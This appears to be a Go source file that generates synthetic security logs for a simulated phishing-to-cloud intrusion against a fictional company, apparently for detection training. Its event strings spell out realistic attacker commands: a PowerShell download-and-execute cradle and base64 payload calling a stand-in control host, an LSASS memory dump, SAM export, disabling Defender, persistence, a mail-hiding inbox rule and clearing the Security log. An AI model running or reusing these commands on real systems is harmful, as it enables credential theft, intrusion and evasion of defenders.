package sim

import (
	"fmt"
	"strings"
	"time"
)

// What belongs to the attacker.
const (
	lureSender  = "billing@northgate-freight.example"
	lureIP      = "203.0.113.66" // sends the mail
	lureHost    = "docs.northgate-freight.example"
	lureHostIP  = "203.0.113.67"
	lureURL     = "https://docs.northgate-freight.example/view/INV-88213"
	controlHost = "sync.lantern-edge.example"
	controlIP   = "198.51.100.23"
	thiefIP     = "192.0.2.150" // signs in with what was stolen
	thiefAgent  = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	appName     = "Lantern Mail Sync"
)

// intrusion is the state of the attack as it moves on.
type intrusion struct {
	*play
	victim, admin *Person // the clerk, and the account for administration
	desk, server  *Device
	implant       *proc // on the clerk's computer
	console       *proc // the shell that the implant keeps open
	foothold      *proc // on the server
	appID         string
	lsync         *program
	lsyncServer   *program
}

// attack is the story that ought to become one incident: a freight invoice, a
// clerk's click, her session and mailbox, her computer, an administrator's
// account, a server, the directory, and the next day the cloud.
func (p *play) attack() {
	victim := p.w.person(titleVictim, 1)
	x := &intrusion{play: p, victim: victim, admin: p.w.adminOf(p.w.person(titleAdmin, 0)), desk: p.w.deviceOf(victim), server: p.w.device("fnw-app01"),
		appID: p.w.guid("app " + appName)}
	x.lsync = &program{name: "lsync.exe", dir: `C:\Users\` + victim.SAM + `\AppData\Roaming\LanternSync\`, size: 614_400}
	x.lsyncServer = &program{name: "lsync.exe", dir: `C:\ProgramData\LanternSync\`, size: 614_400}
	// One file, wherever it lies.
	one := p.w.guid("lsync")
	for _, g := range []*program{x.lsync, x.lsyncServer} {
		s2, s1, m5 := p.hashes(one)
		p.known[g.path()] = [3]string{s2, s1, m5}
	}
	x.mail()
	x.click()
	x.identity()
	x.consent()
	x.lookAround()
	x.credentials()
	x.lateral()
	x.directory()
	x.cloud()
	x.cover()
}

// mail: ten people get the invoice; three copies arrive.
func (x *intrusion) mail() {
	t := x.at(1, 1, 5)
	l := letter{from: lureSender, fromName: "Northgate Freight Billing", fromIP: lureIP, subject: "Overdue freight invoice INV-88213", threat: "Phish", urls: []string{lureURL}}
	for i := range 7 {
		x.send(l, x.w.person("Sales Representative", i), t.Add(time.Duration(i)*3*time.Second))
	}
	l.delivered = true
	for i := range 3 {
		to := x.w.person(titleVictim, i)
		id := x.send(l, to, t.Add(time.Duration(25+4*i)*time.Second))
		if to == x.victim {
			x.clicked(id)
			continue
		}
		x.purge(l, to, id, x.at(1, 1, 52).Add(time.Duration(i)*time.Second))
	}
}

// purge takes a delivered message back.
func (p *play) purge(l letter, to *Person, id string, t time.Time) {
	p.put("EmailPostDeliveryEvents", t, values{"NetworkMessageId": id, "Action": "Moved to quarantine", "ActionType": l.threat + " ZAP", "ActionTrigger": "ZAP",
		"ActionResult": "Success", "RecipientEmailAddress": to.UPN, "DeliveryLocation": "Quarantine", "ThreatTypes": l.threat, "EmailDirection": "Inbound", "SenderFromAddress": l.from})
}

func (x *intrusion) clicked(mail string) {
	x.play.click(x.victim, mail, lureURL, "Phish", true, true, x.at(1, 1, 22))
}

// click: the browser fetches a script, the script fetches the implant.
func (x *intrusion) click() {
	shell := x.shell[x.victim.Device*3+1]
	t := x.at(1, 1, 22)
	browser := x.run(shell, edge, `"`+edge.path()+`" --single-argument `+lureURL, t.Add(2*time.Second))
	x.connect(browser, t.Add(3*time.Second), lureHostIP, 443, lureHost)
	script := `C:\Users\` + x.victim.SAM + `\Downloads\INV-88213.js`
	x.write(browser, t.Add(40*time.Second), script, "inv-88213.js", 48_133, lureURL+"/download")
	ws := x.run(shell, windows("wscript.exe"), `"C:\Windows\System32\WScript.exe" "`+script+`"`, t.Add(95*time.Second))
	x.connect(ws, t.Add(97*time.Second), lureHostIP, 443, lureHost)
	ps := x.run(ws, powershell, `powershell.exe -nop -w hidden -c "iex ((New-Object Net.WebClient).DownloadString('https://`+controlHost+`/a'))"`, t.Add(101*time.Second))
	x.connect(ps, t.Add(103*time.Second), controlIP, 443, controlHost)
	x.write(ps, t.Add(108*time.Second), x.lsync.path(), x.w.guid("lsync"), x.lsync.size, "https://"+controlHost+"/s")
	x.setValue(ps, t.Add(111*time.Second), `HKEY_CURRENT_USER\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run`, "LanternSync", "String", x.lsync.path())
	x.run(ps, windows("schtasks.exe"), `schtasks.exe /create /f /sc minute /mo 30 /tn "Lantern Sync" /tr "`+x.lsync.path()+`"`, t.Add(114*time.Second))
	x.implant = x.run(ps, x.lsync, `"`+x.lsync.path()+`" -q`, t.Add(117*time.Second))
	x.beacon(x.implant, t.Add(2*time.Minute), x.at(1, 9, 0))
}

// beacon calls the control server: often while somebody sits at the other end,
// later twice an hour.
func (x *intrusion) beacon(pr *proc, from, to time.Time) {
	for n, t := 0, from; t.Before(to); n++ {
		x.connect(pr, t, controlIP, 443, controlHost)
		if n < 9 {
			t = t.Add(3*time.Minute + x.jitter(time.Minute))
		} else {
			t = t.Add(27*time.Minute + x.jitter(6*time.Minute))
		}
	}
}

// identity: the page also asked for the password. Prompts until one is
// approved.
func (x *intrusion) identity() {
	s := signIn{app: cloudApps[0].name, appID: cloudApps[0].id, resource: "Mailbox", ip: thiefIP, country: "MD", city: "Chisinau", agent: thiefAgent, interactive: true,
		session: x.w.guid("thief session")}
	home := s
	home.ip, home.country, home.city, home.agent, home.session, home.device = x.w.Egress, "NL", "Rotterdam", officeAgent, "", x.desk
	x.signIn(x.victim, home, x.at(1, 1, 23))
	for i := range 6 {
		s.code = 500121
		x.signIn(x.victim, s, x.at(1, 1, 31).Add(time.Duration(i)*95*time.Second))
	}
	s.code, s.risk = 0, 100
	x.signIn(x.victim, s, x.at(1, 1, 41))
}

// consent: an application that reads mail, a rule that hides the answers.
func (x *intrusion) consent() {
	t := x.at(1, 2, 4)
	rights := "Mail.Read MailboxSettings.ReadWrite offline_access"
	x.act(x.victim, cloudAct{action: "Consent to application.", app: "Microsoft 365", object: appName, objectType: "Service principal", ip: thiefIP, country: "MD", agent: thiefAgent, oauthApp: x.appID,
		raw: map[string]any{"ObjectId": x.appID, "ModifiedProperties": []any{map[string]any{"Name": "ConsentContext.IsAdminConsent", "NewValue": "False"},
			map[string]any{"Name": "ConsentAction.Permissions", "NewValue": "Scope: " + rights}}},
		objects: []any{map[string]any{"Type": "Application", "Role": "Target object", "Name": appName, "Id": x.appID}}}, t)
	x.appInfo(appName, x.appID, "High", false, t, 1, t.Add(4*time.Minute), "External")
	x.act(x.victim, cloudAct{action: "New-InboxRule", app: "Microsoft Exchange Online", object: x.victim.UPN + `\..`, objectType: "Rule", ip: thiefIP, country: "MD", agent: thiefAgent,
		raw: map[string]any{"Parameters": []any{map[string]any{"Name": "SubjectOrBodyContainsWords", "Value": "invoice;payment;freight;bank"},
			map[string]any{"Name": "MoveToFolder", "Value": "RSS Subscriptions"}, map[string]any{"Name": "MarkAsRead", "Value": "True"}}}}, x.at(1, 2, 16))
	x.readMail(x.at(1, 2, 25), 44)
}

func (x *intrusion) readMail(t time.Time, n int) {
	for i := range n {
		x.act(x.victim, cloudAct{action: "MailItemsAccessed", app: "Microsoft Exchange Online", object: "Inbox", objectType: "Folder", ip: thiefIP, country: "MD", agent: "python-requests/2.32", oauthApp: x.appID,
			raw: map[string]any{"AppId": x.appID, "ClientAppId": x.appID, "ClientInfoString": "Client=REST;", "MailAccessType": "Bind"}}, t.Add(time.Duration(i)*41*time.Second))
	}
}

// lookAround: what a newcomer asks a network.
func (x *intrusion) lookAround() {
	t := x.at(1, 2, 41)
	x.console = x.run(x.implant, windows("cmd.exe"), `C:\Windows\System32\cmd.exe`, t)
	for i, c := range []struct{ prog, cmd string }{
		{"whoami.exe", "whoami /groups"}, {"ipconfig.exe", "ipconfig /all"}, {"net.exe", `net group "Domain Admins" /domain`}, {"nltest.exe", "nltest /dclist:fennwick.example"},
		{"net.exe", `net view \\fnw-app01 /all`}, {"quser.exe", "quser"}, {"systeminfo.exe", "systeminfo"},
	} {
		x.run(x.console, windows(c.prog), c.cmd, t.Add(time.Duration(12+23*i)*time.Second))
	}
}

// credentials: an administrator once helped at this computer, and the memory of
// the logon service remembers.
func (x *intrusion) credentials() {
	t := x.at(1, 4, 10)
	dump := x.run(x.console, windows("rundll32.exe"), fmt.Sprintf(`rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump %d C:\Windows\Temp\mso.tmp full`, x.lsass(x.desk).pid), t)
	x.event(dump, t.Add(time.Second), "OpenProcessApiCall", values{"FileName": "lsass.exe", "FolderPath": windows("lsass.exe").path(), "ProcessId": x.lsass(x.desk).pid, "AdditionalFields": `{"DesiredAccess":2097151}`})
	x.write(dump, t.Add(3*time.Second), `C:\Windows\Temp\mso.tmp`, "dump "+x.desk.Short, 61_000_000, "")
	x.run(x.console, windows("reg.exe"), `reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y`, t.Add(50*time.Second))
}

// lateral: from the clerk's computer to the application server.
func (x *intrusion) lateral() {
	t := x.at(1, 5, 14)
	x.run(x.console, &program{name: "cmdkey.exe", dir: system32, company: "Microsoft Corporation", product: "Microsoft® Windows® Operating System", desc: "Credential Manager Command Line Utility", signed: true, size: 22_000},
		`cmdkey /generic:TERMSRV/fnw-app01 /user:`+x.w.NetBIOS+`\`+x.admin.SAM+` /pass:********`, t)
	here := x.as(x.admin, x.desk, 1)
	shell := x.runAs(x.implant, windows("cmd.exe"), `C:\Windows\System32\cmd.exe`, here, t.Add(70*time.Second))
	rdp := x.run(shell, windows("mstsc.exe"), `mstsc.exe /v:fnw-app01 /restrictedAdmin`, t.Add(85*time.Second))
	x.connect(rdp, t.Add(87*time.Second), x.server.IP, 3389, "")

	there := x.as(x.admin, x.server, 1)
	t = t.Add(4 * time.Minute)
	x.logon(x.server, there, t, "Network", x.desk, true)
	x.domainLogon(x.admin, x.desk, t, true)
	host := x.newProc(x.server, x.services(x.server), wmiprvse, wmiprvse.path()+" -Embedding", localSystem, x.start.Add(-40*time.Hour))
	ps := x.runAs(host, powershell, `powershell.exe -nop -w hidden -enc `+encoded, there, t.Add(3*time.Second))
	x.connect(ps, t.Add(5*time.Second), controlIP, 443, controlHost)
	x.write(ps, t.Add(9*time.Second), x.lsyncServer.path(), x.w.guid("lsync"), x.lsyncServer.size, "https://"+controlHost+"/s")
	x.event(x.services(x.server), t.Add(14*time.Second), "ServiceInstalled", values{"FileName": x.lsyncServer.name, "FolderPath": x.lsyncServer.path(), "SHA256": sha256sum(x.w.guid("lsync")),
		"AccountDomain": there.domain, "AccountName": there.name, "AccountSid": there.sid, "LogonId": there.logon, "ProcessCommandLine": x.lsyncServer.path() + " -svc",
		"AdditionalFields": `{"ServiceName":"LanternSync","ServiceStartType":2,"ServiceAccount":"LocalSystem","ServiceType":16}`})
	x.foothold = x.run(x.services(x.server), x.lsyncServer, x.lsyncServer.path()+" -svc", t.Add(16*time.Second))
	x.beacon(x.foothold, t.Add(time.Minute), x.at(2, 5, 0))
	x.run(ps, powershell, `powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\ProgramData"`, t.Add(140*time.Second))
}

// encoded is base64 of UTF-16 "IEX(irm https://sync.lantern-edge.example/b)".
const encoded = "SQBFAFgAKABpAHIAbQAgAGgAdAB0AHAAcwA6AC8ALwBzAHkAbgBjAC4AbABhAG4AdABlAHIAbgAtAGUAZABnAGUALgBlAHgAYQBtAHAAbABlAC8AYgApAA=="

// directory: the next day tickets to crack, and then the directory itself.
func (x *intrusion) directory() {
	t := x.at(2, 1, 55)
	x.run(x.foothold, powershell, `powershell.exe -nop -w hidden -enc `+strings.Replace(encoded, "LwBiACkA", "LwBrACkA", 1), t)
	for i, svc := range []string{"MSSQLSvc/fnw-sql01", "HTTP/fnw-web01", "MES/fnw-mes01", "MES/fnw-mes02", "KEEP/fnw-bkp01"} {
		_, target, _ := strings.Cut(svc, "/")
		x.put("IdentityLogonEvents", t.Add(time.Duration(6+i)*time.Minute/2), values{"ActionType": "LogonSuccess", "Application": "Active Directory", "LogonType": "Resource access", "Protocol": "Kerberos",
			"AccountName": x.admin.SAM, "AccountDomain": x.w.Domain, "AccountUpn": x.admin.UPN, "AccountSid": x.admin.SID, "AccountObjectId": x.admin.ObjectID, "AccountDisplayName": x.admin.Display,
			"DeviceName": x.server.Name, "IPAddress": x.server.IP, "DestinationDeviceName": x.w.device("fnw-dc01").Name, "DestinationIPAddress": x.w.device("fnw-dc01").IP, "DestinationPort": int64(88),
			"TargetDeviceName": target, "AdditionalFields": map[string]any{"TicketEncryptionType": "0x17", "Spns": svc, "FROM.DEVICE": x.server.Short}})
	}
	for i := range 3 {
		x.replicate(x.admin.SAM, x.server, x.w.device("fnw-dc01"), x.admin.SID, x.at(2, 2, 8).Add(time.Duration(i)*20*time.Second))
	}
}

// cloud: the administrator's account opens the vault and the archive.
func (x *intrusion) cloud() {
	x.readMail(x.at(2, 1, 40), 30)
	s := signIn{app: "Azure Portal", appID: "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", resource: "Azure Resource Manager", ip: thiefIP, country: "MD", city: "Chisinau", agent: thiefAgent,
		interactive: true, risk: 100, session: x.w.guid("thief session 2")}
	x.signIn(x.admin, s, x.at(2, 2, 25))
	t := x.at(2, 2, 38)
	x.auditVault(x.admin.UPN, "SecretList", "fnw-vault-prod", thiefIP, t)
	for i := range 9 {
		x.auditVault(x.admin.UPN, "SecretGet", "fnw-vault-prod", thiefIP, t.Add(time.Duration(11+7*i)*time.Second))
	}
	x.storage(x.at(2, 2, 55))
	x.put("CloudAuditEvents", x.at(2, 3, 12), values{"ActionType": "CreateAccessKey", "OperationName": "CreateAccessKey", "Account": x.admin.UPN, "DataSource": "AWS CloudTrail", "AuditSource": "AWS CloudTrail",
		"AwsResourceName": "arn:aws:iam::111122223333:user/deploy-webshop", "IPAddress": thiefIP, "CountryCode": "MD", "UserAgent": thiefAgent,
		"RawEventData": map[string]any{"eventName": "CreateAccessKey", "eventSource": "iam.amazonaws.com", "sourceIPAddress": thiefIP, "awsRegion": "eu-central-1",
			"userIdentity":      map[string]any{"type": "AssumedRole", "arn": "arn:aws:sts::111122223333:assumed-role/Administrators/" + x.admin.UPN},
			"requestParameters": map[string]any{"userName": "deploy-webshop"}}})
	x.act(x.admin, cloudAct{action: "Update application – Certificates and secrets management ", app: "Microsoft 365", object: "Tallyworks ERP", objectType: "Application", ip: thiefIP, country: "MD", agent: thiefAgent, admin: true,
		raw: map[string]any{"ObjectId": x.w.guid("app Tallyworks ERP")}}, x.at(2, 3, 30))
}

func (x *intrusion) storage(t time.Time) {
	x.put("CloudStorageAggregatedEvents", t, values{"ActionType": "StorageAccess", "AccountObjectId": x.admin.ObjectID, "AccountUpn": x.admin.UPN, "AccountTenantId": x.w.Tenant, "AuthenticationType": "OAuth",
		"AzureResourceId":     "/subscriptions/" + x.w.Subscription + "/resourcegroups/rg-fennwick/providers/microsoft.storage/storageaccounts/fnwfinancearchive",
		"AzureSubscriptionId": x.w.Subscription, "StorageAccount": "fnwfinancearchive", "StorageContainer": "invoices", "ResourceGroup": "rg-fennwick", "ServiceType": "Blob",
		"DataAggregationStartTime": t.Add(-15 * time.Minute), "DataAggregationEndTime": t, "FirstEventTimestamp": t.Add(-14 * time.Minute), "LastEventTimestamp": t.Add(-time.Minute),
		"DistinctGetOperations": int64(1240), "OperationsCount": int64(1263), "SuccessfulOperationsCount": int64(1259), "SuccessfulReadOperations": int64(1259), "FailedOperationsCount": int64(4),
		"TotalResponseLength": int64(1_900_000_000), "IPAddress": thiefIP, "IsPrivateIp": false, "IsTorExitNode": false, "CountryName": "Moldova", "UserAgentHeader": "AzCopy/10.27.0",
		"OperationNamesList": []any{"GetBlob", "ListBlobs"}})
}

// cover: what is left is packed, and the log of the server emptied.
func (x *intrusion) cover() {
	t := x.at(2, 4, 20)
	x.run(x.foothold, sevenzip, `"`+sevenzip.path()+`" a -hpLantern2 C:\ProgramData\LanternSync\d.7z \\fnw-file01\finance\*.xlsx`, t)
	wipe := x.run(x.foothold, windows("wevtutil.exe"), `wevtutil.exe cl Security`, t.Add(9*time.Minute))
	x.event(wipe, t.Add(9*time.Minute+time.Second), "SecurityLogCleared", nil)
}
